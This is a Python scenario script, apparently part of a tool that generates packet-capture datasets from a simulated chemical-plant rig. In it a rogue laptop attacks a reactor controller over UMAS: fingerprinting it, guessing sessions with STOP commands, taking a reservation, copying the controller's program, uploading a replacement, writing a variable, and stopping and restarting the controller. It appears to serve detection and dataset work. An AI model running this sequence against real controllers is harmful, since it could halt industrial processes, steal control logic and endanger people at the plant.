"""A laptop speaks UMAS (function code 90) to a controller: reserves it, takes its program, stops it."""

from __future__ import annotations

from pcaps.scenarios.rig import umas
from pcaps.scenarios.rig.layout import CHEM
from pcaps.scenarios.rig.operations import chem_masters
from pcaps.scenarios.rig.scenario import Scenario
from pcaps.scenarios.rig.stage import Stage, ask


async def attack(stage: Stage) -> None:
    """Recognise, guess sessions, reserve, copy the program, put another one in, write a variable, stop, start."""
    await stage.until(40)
    async with stage.connect(CHEM.host("reactor").ip) as client:
        client.register(umas.Umas)
        session = 0

        async def order(function: int, data: bytes = b"", pause_s: float = 1.0) -> bytes:
            reply = await ask(client, umas.Umas(bytes([session, function]) + data, dev_id=0))
            await stage.wait(pause_s)
            return reply.payload if isinstance(reply, umas.Umas) else b""

        stage.mark()
        for function in (umas.INIT, umas.READ_ID, umas.PROJECT_INFO, umas.PLC_INFO):
            await order(function, b"\0")
        stage.mark()
        for guess in range(1, 9):
            session = guess
            await order(umas.STOP, b"\xff\0", 0.5)
        session = 0
        await stage.until(60)
        stage.mark()
        session = (await order(umas.TAKE, bytes.fromhex("1027 0000") + b"\x08OPERATOR"))[2]
        await order(umas.KEEP_ALIVE)
        stage.mark()
        await order(umas.DOWNLOAD_START, b"\0\1")
        for block in range(1, 25):
            await order(umas.DOWNLOAD_BLOCK, bytes([0, 1, block]), 0.4)
        await order(umas.DOWNLOAD_END, b"\0\1")
        await stage.until(90)
        stage.mark()
        await order(umas.UPLOAD_START, b"\0\1")
        for block in range(1, 4):
            await order(umas.UPLOAD_BLOCK, bytes([0, 1, block]) + stage.random.randbytes(200), 0.4)
        await order(umas.UPLOAD_END, b"\0\1")
        await order(umas.WRITE_VARIABLES, bytes.fromhex("0100 0000 0501 0200 00aa 05"))
        await order(umas.STOP, b"\xff\0", 20)
        stage.mark()
        await order(umas.START, b"\xff\0")
        await order(umas.RELEASE)


SCENARIO = Scenario(
    file="umas_stop.pcap",
    enterprise="chem",
    duration_s=150,
    time_scale=6,
    seed=12,
    masters=chem_masters(slack=2),
    acts={"laptop": attack},
    strangers=("laptop",),
)
